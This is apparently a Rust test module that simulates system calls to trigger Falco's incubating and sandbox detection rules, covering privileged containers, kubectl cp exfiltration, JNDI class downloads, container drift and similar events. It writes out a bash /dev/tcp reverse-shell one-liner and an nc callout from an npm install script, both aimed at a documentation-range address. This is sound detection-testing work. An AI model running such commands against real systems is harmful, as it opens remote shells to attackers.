//! Behaviours of Falco's incubating and sandbox rules about pods and the network: container
//! starts with sensitive mounts or capabilities, `kubectl cp`, UDP tunnels, NodePorts, connections
//! leaving a pod's subnet, interpreters serving and calling out, a Java class download, supply-chain
//! install scripts, a web server's reverse shell, shell configuration reads, monitored directories
//! and drift by a created executable.

use std::net::Ipv4Addr;

use anyhow::Result;

use super::syscalls::{self, CAPS_DOCKER, Exec};
use super::{ALICE_SH, NGINX, ROOT_SH, WRITE_NEW, cmd, touch_file};
use crate::world::{O_RDONLY, SOCK_DGRAM, World};

/// CAP_SYS_ADMIN, which `--cap-add SYS_ADMIN` adds to the runtime's default set.
const CAP_SYS_ADMIN: u64 = 1 << 21;

/// The incubating set's: returns the agent pod's first process (its node agent, left running).
pub fn incubating(w: &mut World, web: i64, agent_runc: i64) -> Result<i64> {
    // Launch Excessively Capable Container (and Launch Sensitive Mount Container): the pod's first
    // process has CAP_SYS_ADMIN and the docker socket.
    let agent = w.fork(agent_runc)?;
    syscalls::exec(
        w,
        agent,
        "/usr/local/bin/node-agent",
        &["--socket", "/var/run/docker.sock"],
        Exec {
            caps: CAPS_DOCKER | CAP_SYS_ADMIN,
            ..Exec::default()
        },
    )?;
    w.procs.get_mut(&agent_runc).expect("runc").vpid = 1;
    // Network Connection outside Local Subnet: the pod calls a public address.
    let fd = w.connect(agent, Ipv4Addr::new(203, 0, 113, 50), 443)?;
    w.close(agent, fd)?;
    // Exfiltrating Artifacts via Kubernetes Control Plane: `kubectl cp web:/var/www/backup.sql`
    // runs tar directly below runc, without a terminal.
    let tar = w.spawn(web, "/bin/tar", &["cf", "-", "/var/www/backup.sql"])?;
    touch_file(w, tar, "/var/www/backup.sql", O_RDONLY)?;
    w.exit(tar)?;
    // Unexpected UDP Traffic: a tunnel on the host sends to a public UDP port.
    let tun = w.spawn(ROOT_SH, "/tmp/tunnel", &["203.0.113.9", "41641"])?;
    let fd = w.connect_sock(tun, Ipv4Addr::new(203, 0, 113, 9), 41641, SOCK_DGRAM)?;
    w.close(tun, fd)?;
    w.exit(tun)?;
    Ok(agent)
}

/// The sandbox set's.
pub fn sandbox(w: &mut World, web: i64, agent: i64) -> Result<()> {
    // Unexpected K8s NodePort Connection: the pod calls another node's NodePort.
    let fd = w.connect(agent, Ipv4Addr::new(10, 0, 0, 20), 30443)?;
    w.close(agent, fd)?;
    // Interpreted procs inbound network activity (and Unexpected inbound connection source).
    let srv = w.spawn(ROOT_SH, "/usr/bin/python3", &["-m", "http.server", "8000"])?;
    let fd = w.accept(srv, Ipv4Addr::new(198, 51, 100, 23), 8000)?;
    w.close(srv, fd)?;
    w.exit(srv)?;
    // Interpreted procs outbound network activity.
    let dl = w.spawn(ROOT_SH, "/usr/bin/ruby", &["fetch.rb"])?;
    let fd = w.connect(dl, Ipv4Addr::new(203, 0, 113, 60), 8443)?;
    w.close(dl, fd)?;
    w.exit(dl)?;
    // Java Process Class File Download: a JNDI lookup fetches a class.
    let java = w.spawn(1, "/usr/bin/java", &["-jar", "/opt/app/app.jar"])?;
    let fd = w.connect(java, Ipv4Addr::new(203, 0, 113, 40), 1389)?;
    syscalls::recvfrom(w, java, fd, b"\xca\xfe\xba\xbe\x00\x00\x00\x34Exploit")?;
    w.close(java, fd)?;
    w.exit(java)?;
    // Read Shell Configuration File.
    let cat = w.spawn(ALICE_SH, "/usr/bin/cat", &["/home/alice/.bashrc"])?;
    touch_file(w, cat, "/home/alice/.bashrc", O_RDONLY)?;
    w.exit(cat)?;
    // Write below monitored dir: a preloaded library hiding processes.
    let py = w.spawn(ROOT_SH, "/usr/bin/python3", &["rootkit.py"])?;
    touch_file(w, py, "/usr/local/lib/libprocesshider.so", WRITE_NEW)?;
    w.exit(py)?;
    let csh = w.spawn(web, "/bin/sh", &[])?;
    // Container Drift Detected (open+create): a new executable written in the container.
    let dl = w.spawn(csh, "/usr/bin/python3", &["fetch.py"])?;
    let fd = w.open(dl, "/tmp/miner", WRITE_NEW, 0o755)?;
    w.close(dl, fd)?;
    w.exit(dl)?;
    // Network Tool Executed During NPM Package Install: a package's install script runs nc.
    let npm = w.spawn(csh, "/usr/bin/npm", &["install", "left-pad-ng"])?;
    let sh = w.spawn(npm, "/bin/sh", &["-c", "node install.js"])?;
    cmd(w, sh, "/usr/bin/nc", &["203.0.113.7", "4444"])?;
    w.exit(sh)?;
    w.exit(npm)?;
    w.exit(csh)?;
    // Reverse Shell from Web Server.
    cmd(
        w,
        NGINX,
        "/bin/sh",
        &["-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
    )
}
